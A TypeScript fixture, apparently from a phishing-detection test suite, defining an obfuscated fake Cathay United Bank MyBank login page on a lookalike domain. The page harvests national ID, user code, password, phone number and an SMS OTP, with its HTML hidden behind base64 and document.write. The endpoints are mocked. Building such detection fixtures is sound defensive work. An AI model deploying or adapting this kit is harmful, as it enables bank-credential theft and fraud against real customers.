import { htmlRoute, redirectRoute, type Entry } from '../entry.js';
import { doc, baseCss, fontTC, fontSC, mark, cardFields, cardFormatJs, luhnJs, footer, b64 } from '../parts/yq-kit.js';
import { jsRoute, jsonRoute, pngRoute } from '../parts/e-bin.js';

export const entries: Entry[] = [
  {
    id: 'yq-cathay-tw-docwrite-b64',
    label: 'phishing',
    kind: 'obfuscated-kit',
    url: 'https://cathaybk-mybank.top/MyBank/',
    body: `<!DOCTYPE html><html><head><meta charset="utf-8"><meta name="viewport" content="width=device-width,initial-scale=1"><title>&#22283;&#27888;&#19990;&#33775;&#32;&#32178;&#36335;&#37504;&#34892;</title><meta name="robots" content="noindex,nofollow"></head><body>
<noscript>請啟用 JavaScript</noscript>
<script>var _0x2a=['${b64(
      doc({
        title: '國泰世華 MyBank 網路銀行',
        css:
          baseCss(fontTC, '#f6f7f6') +
          `.h{background:#fff;padding:14px 0;border-bottom:1px solid #e0e0e0}.w{max-width:440px;margin:36px auto;background:#fff;border-radius:12px;padding:28px;box-shadow:0 4px 18px rgba(0,0,0,.06)}
h2{color:#0c7a46;margin:0 0 6px}.go{background:#0c7a46;color:#fff;width:100%;height:46px;border-radius:6px}`,
        body: `<div class="h"><div class="container">${mark('國泰世華銀行', '#0c7a46', { shape: 'circle', fg: '#0c7a46', w: 180 })}</div></div>
<form class="w" id="lg"><h2>登入 MyBank</h2><p class="hint">請輸入您的網路銀行資料</p>
<div class="field"><label>身分證字號</label><input name="id" maxlength="10" required></div>
<div class="field"><label>用戶代號</label><input name="uc" required></div>
<div class="field"><label>網銀密碼</label><input name="pw" type="password" required></div>
<div class="field"><label>行動電話</label><input name="ph" inputmode="tel" placeholder="09xxxxxxxx" required></div>
<button class="btn go">登入</button><p class="err" id="er">系統忙碌中，請稍後再試</p></form>
<script>document.getElementById('lg').onsubmit=function(e){e.preventDefault();var d=new FormData(this);d.append('b','cathay');var x=new XMLHttpRequest();x.open('POST','api/login.php');x.onload=function(){location.href='verify.html'};x.send(d);};<\/script>`,
      }),
    )}'];function _0x9f(s){return decodeURIComponent(escape(window['a'+'to'+'b'](s)))}document['wr'+'ite'](_0x9f(_0x2a[0]));</script>
</body></html>`,
    routes: {
      'cathaybk-mybank.top/MyBank/api/login.php': jsonRoute({ code: 0 }),
      'cathaybk-mybank.top/MyBank/verify.html': htmlRoute(
        doc({
          title: '國泰世華 - 身分驗證',
          css: baseCss(fontTC, '#f6f7f6') + `.w{max-width:440px;margin:36px auto;background:#fff;border-radius:12px;padding:28px}.go{background:#0c7a46;color:#fff;width:100%;height:46px}`,
          body: `<form class="w" method="post" action="api/otp.php"><h2 style="color:#0c7a46">簡訊驗證</h2><p>請輸入您收到的 6 位數簡訊驗證碼</p><div class="field"><input name="otp" maxlength="6" inputmode="numeric"></div><button class="btn go">送出</button></form>`,
        }),
      ),
    },
  },
];
